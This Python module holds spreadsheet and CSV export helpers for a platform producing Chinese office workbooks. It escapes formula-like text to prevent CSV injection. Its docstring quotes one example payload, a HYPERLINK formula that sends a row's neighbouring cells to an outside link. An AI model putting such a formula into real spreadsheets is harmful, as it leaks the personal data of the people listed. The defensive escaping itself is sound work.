"""Helpers every workbook (and CSV file) the platform reads or writes shares.

People's text goes into the offices' spreadsheets; a spreadsheet reads a cell beginning with ``=`` (and, on import
into another program, ``+ - @``, a tab or a carriage return) as a formula. A major written as
``=HYPERLINK("http://…"&B3,"土木工程")`` became a live link that sends the row's neighbours away (issue 10, finding 5;
OWASP "CSV injection"). Every row the platform writes goes through :func:`append_row` (workbooks) or :func:`csv_row`
(CSV), so such text is always written as text.
"""

from __future__ import annotations

import datetime as dt
import io
import unicodedata
from collections.abc import Collection, Iterable, Sequence
from dataclasses import dataclass, field
from typing import Any

from openpyxl import Workbook
from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.properties import PageSetupProperties
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def column_letter(index: int) -> str:
    """The Excel column (A, B, … AA) of a 0-based index."""
    return get_column_letter(index + 1)


def formula_like(value: object) -> bool:
    """Text a spreadsheet program could take for a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def append_row(ws: Any, values: Iterable[object]) -> None:
    """Append ``values`` as the sheet's next row, text that looks like a formula kept as text: the cell is a string
    cell with Excel's quote prefix (what typing ``'`` before it does), so neither reading nor editing runs it."""
    ws.append(list(values))
    for cell in ws[ws.max_row]:
        if formula_like(cell.value):
            cell.data_type = "s"
            cell.quotePrefix = True


def csv_cell(value: object) -> str:
    """One CSV field: text that looks like a formula starts with ``'``, which spreadsheet programs show as text."""
    text = "" if value is None else str(value)
    return f"'{text}" if formula_like(text) else text


def csv_row(values: Iterable[object]) -> list[str]:
    """A row for ``csv.writer.writerow`` with every field made safe by :func:`csv_cell`."""
    return [csv_cell(v) for v in values]


class ImportProblem(ValueError):
    """A workbook that cannot be read at all."""


def template_workbook(title: str, headers: Iterable[object], notes: Iterable[tuple[str, str]]) -> bytes:
    """An empty workbook in an import's layout: the headers on the first sheet, what each column takes on a second
    (填写说明) — the one shape every import's template has, so that the offices meet one kind of template. The header
    is bold and frozen, and an ID number's column is text before anything is typed into it."""
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = title
    names = [str(h) for h in headers]
    append_row(ws, names)
    for i, (name, cell) in enumerate(zip(names, ws[1], strict=True)):
        cell.font = Font(bold=True)
        column = ws.column_dimensions[column_letter(i)]
        column.width = max(display_width(name), 20 if name in ID_COLUMNS else 8) + 2
        if name in ID_COLUMNS:
            column.number_format = TEXT_FORMAT
    ws.freeze_panes = "A2"
    sheet = wb.create_sheet("填写说明")
    append_row(sheet, ["列", "填写"])
    for column_name, what in notes:
        append_row(sheet, [column_name, what])
    sheet.column_dimensions["A"].width = 16
    sheet.column_dimensions["B"].width = 80
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


# ── the office's layout ─────────────────────────────────────────────────────────────────────────────────────────

# Dates as the notice writes them (2023年10月16日), stored as dates so that a clerk can sort and filter by them.
DATE_FORMAT = 'yyyy"年"m"月"d"日"'
TEXT_FORMAT = "@"  # a cell Excel keeps as typed: an ID number's 18 digits never become 1.42221E+17
ID_COLUMNS = frozenset({"身份证号码", "公民身份号码", "统一社会信用代码", "手机号码"})
WIDEST = 40  # characters: a longer cell wraps instead of pushing the table off the screen
THIN = Side(style="thin", color="999999")


def display_width(value: object) -> int:
    """How many narrow characters ``value`` takes on screen: a Chinese character (or a full-width one) takes two."""
    text = value.strftime("%Y年%m月%d日") if isinstance(value, dt.date) else str(value)
    return max(
        (sum(2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in line) for line in text.splitlines()),
        default=0,
    )


@dataclass
class Sheet:
    """One table as an office expects it: a title above, the header bold, frozen and filtered, columns as wide as
    their text, dates as dates, the text columns (ID numbers) as text, printed landscape on A4, one page wide, the
    title and header on every page and the page number in the footer."""

    name: str
    title: str
    headers: Sequence[str]
    rows: Iterable[Sequence[object]]
    text_columns: Collection[str] = field(default_factory=frozenset)

    def write(self, ws: Worksheet) -> None:
        ws.title = _sheet_name(self.name)
        columns = len(self.headers)
        append_row(ws, [self.title])
        ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=max(columns, 1))
        ws["A1"].font = Font(bold=True, size=14)
        ws["A1"].alignment = Alignment(horizontal="center", vertical="center")
        ws.row_dimensions[1].height = 24
        append_row(ws, self.headers)
        for cell in ws[2]:
            cell.font = Font(bold=True)
            cell.fill = PatternFill("solid", fgColor="EEEEEE")
            cell.alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
            cell.border = Border(top=THIN, bottom=THIN, left=THIN, right=THIN)
        widths = [display_width(h) for h in self.headers]
        text = {i for i, h in enumerate(self.headers) if h in self.text_columns}
        for values in self.rows:
            append_row(ws, [str(v) if i in text and v not in (None, "") else v for i, v in enumerate(values)])
            for i, cell in enumerate(ws[ws.max_row]):
                if isinstance(cell.value, dt.date):
                    cell.number_format = DATE_FORMAT
                elif i in text:
                    cell.number_format = TEXT_FORMAT
                cell.alignment = Alignment(vertical="top", wrap_text=True)
                cell.border = Border(top=THIN, bottom=THIN, left=THIN, right=THIN)
                if i < columns and cell.value is not None:
                    widths[i] = max(widths[i], display_width(cell.value))
        for i, width in enumerate(widths):
            ws.column_dimensions[column_letter(i)].width = min(width, WIDEST) + 2
        last = column_letter(columns - 1)
        ws.freeze_panes = "A3"
        ws.auto_filter.ref = f"A2:{last}{max(ws.max_row, 2)}"
        ws.print_title_rows = "1:2"
        ws.page_setup.orientation = "landscape"
        ws.page_setup.paperSize = ws.PAPERSIZE_A4
        ws.page_setup.fitToWidth = 1
        ws.page_setup.fitToHeight = 0  # as many pages down as the rows need
        ws.sheet_properties.pageSetUpPr = PageSetupProperties(fitToPage=True)
        ws.print_options.horizontalCentered = True
        ws.page_margins.left = ws.page_margins.right = 0.4
        footer, header = ws.oddFooter, ws.oddHeader
        assert footer is not None and header is not None
        footer.center.text = "第 &P 页，共 &N 页"
        header.center.text = "&A"  # the sheet's name: the batch, when a workbook has several


def _sheet_name(name: str) -> str:
    """A name Excel accepts: at most 31 characters, none of the characters it forbids (brackets, colon, slashes…)."""
    return "".join("_" if c in "[]:*?/\\" else c for c in name)[:31] or "表"


def office_workbook(sheets: Sequence[Sheet]) -> bytes:
    """A workbook of one sheet per table (a channel's batches, say), each in the office's layout."""
    wb = Workbook()
    first = wb.active
    assert first is not None
    wb.remove(first)
    seen: set[str] = set()
    for sheet in sheets or [Sheet("表", "", [], [])]:
        ws = wb.create_sheet()
        sheet.write(ws)
        if ws.title in seen:  # two batches of one day: Excel refuses two sheets of one name
            ws.title = _sheet_name(f"{ws.title[:27]}（{len(seen) + 1}）")
        seen.add(ws.title)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def as_date(value: object) -> object:
    """A profile's ISO date (``2023-10-16``) as a date, anything else as it is: profiles keep dates as text."""
    if isinstance(value, str) and len(value) == 10:
        try:
            return dt.date.fromisoformat(value)
        except ValueError:
            return value
    return value
